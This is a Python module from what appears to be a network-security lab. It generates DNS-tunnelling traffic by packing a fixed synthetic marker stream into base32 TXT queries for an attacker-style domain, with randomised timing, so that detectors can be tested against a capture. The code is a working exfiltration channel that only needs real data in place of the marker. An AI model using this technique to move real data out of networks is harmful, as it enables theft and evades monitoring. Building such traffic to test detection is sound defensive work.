"""Marker data that leaves through DNS: TXT look-ups whose names carry it, through the city's own resolver.

The data is a fixed pseudo-random stream (`marker`), so that a check can find exactly it in the capture again.

Usage: `python -m lab.clients.tunnel RESOLVER DOMAIN COUNT INTERVAL`
"""

import base64
import hashlib
import random
import socket
import struct
import sys
import time
from collections.abc import Iterator

_SEED = b"KHIEN-LAB-MARKER"
LABEL_BYTES = 30
LABELS = 2
_TYPE_TXT = 16
_CLASS_IN = 1
_TIMEOUT_SECONDS = 3.0


def marker(size: int) -> bytes:
    """The data that leaves: SHA-256 of the seed and a counter, block after block."""
    blocks = (size + 31) // 32
    return b"".join(hashlib.sha256(_SEED + struct.pack(">I", number)).digest() for number in range(blocks))[:size]


def names(domain: str, count: int) -> Iterator[str]:
    """The names to ask for: sequence number, then two labels of base32, then the attacker's domain."""
    step = LABEL_BYTES * LABELS
    data = marker(count * step)
    for number in range(count):
        piece = data[number * step : (number + 1) * step]
        labels = [piece[start : start + LABEL_BYTES] for start in range(0, step, LABEL_BYTES)]
        words = [base64.b32encode(label).decode("ascii").rstrip("=").lower() for label in labels]
        yield ".".join([f"{number:04x}", *words, domain])


def question(name: str, identifier: int) -> bytes:
    """A DNS query for the name's TXT record (RFC 1035, sections 4.1.1 and 4.1.2)."""
    header = struct.pack(">HHHHHH", identifier, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(label)]) + label.encode("ascii") for label in name.split("."))
    return header + labels + b"\0" + struct.pack(">HH", _TYPE_TXT, _CLASS_IN)


def main(resolver: str, domain: str, count: int, interval: float) -> None:
    """Asks for each name once, `interval` seconds apart give or take a half."""
    chance = random.Random(2026)
    for name in names(domain, count):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
            connection.settimeout(_TIMEOUT_SECONDS)
            connection.sendto(question(name, chance.randrange(65536)), (resolver, 53))
            try:
                connection.recv(4096)
            except TimeoutError:
                print(f"tunnel: no answer for {name}", file=sys.stderr)
        time.sleep(interval * chance.uniform(0.5, 1.5))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
